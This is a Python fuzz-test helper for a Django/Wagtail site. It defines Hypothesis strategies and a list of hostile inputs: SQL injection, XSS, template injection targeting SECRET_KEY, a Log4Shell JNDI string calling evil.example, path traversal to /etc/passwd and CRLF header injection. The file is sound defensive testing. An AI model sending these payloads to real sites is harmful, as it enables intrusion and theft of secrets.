"""Hostile input for the property-based tests: strategies, the clear answers allowed, row counts.

Shared by the endpoint fuzzers (tests/kindness_site/test_fuzz_public.py) and the demo-site
checks (test_demo_site.py).
"""

from __future__ import annotations

from django.apps import apps
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FUZZ = settings(
    max_examples=50,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# Properties that send several requests per example run fewer examples, to keep the suite fast.
FUZZ_FEW = settings(FUZZ, max_examples=20)
CLEAR_ANSWERS = {200, 301, 302, 303, 400, 401, 403, 404, 405, 410, 413, 429}
HOSTILE = [
    "' OR '1'='1' --",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%00",
    "\x00",
    "\r\nSet-Cookie: owned=1",
    "javascript:alert(1)",
    "\uff21\uff22\uff23 \ufdfd \U0001d55c\U0001d55a \U0001f642\u200d\u2194\ufe0f \u202e\u200b",
    "-1",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "[]",
    '{"a": 1}',
    "a@b",
    "@@@",
]
# Text without lone surrogates (they cannot be sent in a URL or a form at all).
TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=200)
HUGE = st.builds(lambda s, n: (s or "x") * n, TEXT.map(lambda s: s[:20]), st.integers(200, 2000))
HOSTILE_TEXT = st.one_of(TEXT, st.sampled_from(HOSTILE), HUGE)
NOT_AN_EMAIL = HOSTILE_TEXT.filter(lambda s: "@" not in s or len(s) > 300)
KNOWN_PARAMS = [
    "q", "page", "area", "areas", "topic", "type", "year", "year_from", "year_to", "author",
    "sort", "order", "country", "status", "format", "lang", "tag", "group", "language",
]  # fmt: skip
QUERY = st.dictionaries(st.one_of(st.sampled_from(KNOWN_PARAMS), TEXT), HOSTILE_TEXT, max_size=5)
FORM = st.dictionaries(st.one_of(st.sampled_from(KNOWN_PARAMS), TEXT), HOSTILE_TEXT, max_size=8)
PROJECT_APPS = ("newsletter", "pages", "people", "projects", "research", "wagtailforms")


def row_counts() -> dict[str, int]:
    """Rows per model of every app that stores visitors' input."""
    counts = {}
    for label in PROJECT_APPS:
        try:
            config = apps.get_app_config(label)
        except LookupError:
            continue
        for model in config.get_models():
            counts[model._meta.label] = model._default_manager.count()
    return counts


def check(response, url: str) -> None:
    assert response.status_code in CLEAR_ANSWERS, (url, response.status_code)
